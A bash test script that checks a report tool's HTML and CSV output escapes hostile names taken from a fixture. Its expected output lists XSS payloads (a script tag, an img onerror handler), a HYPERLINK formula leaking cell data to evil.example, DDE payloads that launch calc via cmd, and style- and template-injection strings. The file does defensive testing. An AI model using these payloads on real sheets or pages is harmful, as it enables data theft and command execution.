# Hostile text in every field a report shows (tests/fixtures/report-hostile/:
# <script>, markup that closes attributes and SVG titles, spreadsheet
# formulas, right-to-left overrides, a 3000-character word) stays text:
# the CSV neutralises formulas, the page runs none of it
# (tests/browser/check_hostile.mjs).
source "$(dirname "$0")/lib/common.bash"
source "$(dirname "$0")/lib/browser.bash"

fixture="$ASSAY_SOURCE_DIR/tests/fixtures/report-hostile"
run_assay report "$fixture/decisions.jsonl" --summary "$fixture/summary.json" \
    --manifest "$fixture/manifest.json" --input "$fixture/applications.jsonl" \
    --html "$work/hostile.html" --csv "$work/hostile.csv"
expect_status 0

# CSV: read back by an RFC 4180 reader, every name is there; the ones a
# spreadsheet would take for a formula start with a quote.
expect_eq "names as a CSV reader sees them" "$(python3 - "$work/hostile.csv" <<'PY'
import csv, sys
with open(sys.argv[1], encoding="utf-8-sig", newline="") as f:
    rows = list(csv.reader(f))
print(len(rows), len(rows[0]), rows[0][6])
for row in rows[1:7] + rows[9:]:
    print(repr(row[2]))
PY
)" "14 9 '=biz.<rule>
'<script>window.__pwned=\"script\"</script>'
'\"><img src=x onerror=\"window.__pwned=\\'img\\'\">'
'\\'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")'
\"'+1+cmd|' /C calc'!A0\"
\"'-2+3\"
\"'@SUM(1+1)*cmd|' /C calc'!A0\"
\"'\\t=1+1\"
'it\\'s \"quoted\", with a comma\\nand a second line'
'</style><style>body{display:none}</style>'
'&lt;not an entity&gt; &amp; {{7*7}} \${7*7}'
''"
expect_eq "the right-to-left name, byte for byte" \
    "$(sed -n 8p "$work/hostile.csv" | cut -d, -f3 | od -An -tx1 -v | tr -d ' \n')" \
    "e280ae676e702e65786520d7a9d79cd795d79d20d985d8b1d8add8a8d8a70a"
expect_eq "the long name, whole" \
    "$(sed -n 9p "$work/hostile.csv" | cut -d, -f3 | wc -c)" 3005

# HTML: no tag, attribute or entity of the data survives as markup.
expect_eq "script elements in the page" "$(grep -o '<script' "$work/hostile.html" | wc -l)" 1
# The <script> text is a name (table, summary: 2), every why (the ranking's
# Why column and the application's section: 2 x 12), ten
# why-not reasons, a veto and a flag (12), an error message (1) and eleven
# manifest strings (version twice, policy hash, plugin's five, input's two,
# a timing's name: 11).
expect_eq "escaped scripts in the page" \
    "$(grep -o '&lt;script&gt;window.__pwned=&quot;script&quot;&lt;/script&gt;' "$work/hostile.html" | wc -l)" 50

require_browser
browser_check check_hostile.mjs "$work/hostile.html" "$fixture/applications.jsonl" \
    "$fixture/decisions.jsonl" "$artefacts"
